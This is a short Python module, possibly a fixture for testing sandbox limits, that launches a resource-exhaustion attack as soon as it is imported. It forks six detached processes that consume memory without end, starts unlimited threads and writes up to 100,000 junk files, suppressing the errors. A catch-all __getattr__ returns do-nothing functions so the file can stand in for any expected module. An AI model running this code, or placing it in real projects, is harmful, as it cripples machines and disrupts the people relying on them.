"""Takes processes, threads, memory and disk at import, leaves all of it running, and returns nothing."""

import os
import threading
import time


def hog():
    kept = []
    while True:
        try:
            kept.append(bytearray(8 << 20))
        except MemoryError:
            time.sleep(0.01)


try:
    for _ in range(6):
        if not os.fork():
            os.setsid()
            hog()
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
except (OSError, RuntimeError):
    pass
try:
    for number in range(100_000):
        with open(f"left-{number}", "wb") as file:
            file.write(bytes(4096))
except OSError:
    pass


def __getattr__(name):
    return lambda *arguments, **keywords: None
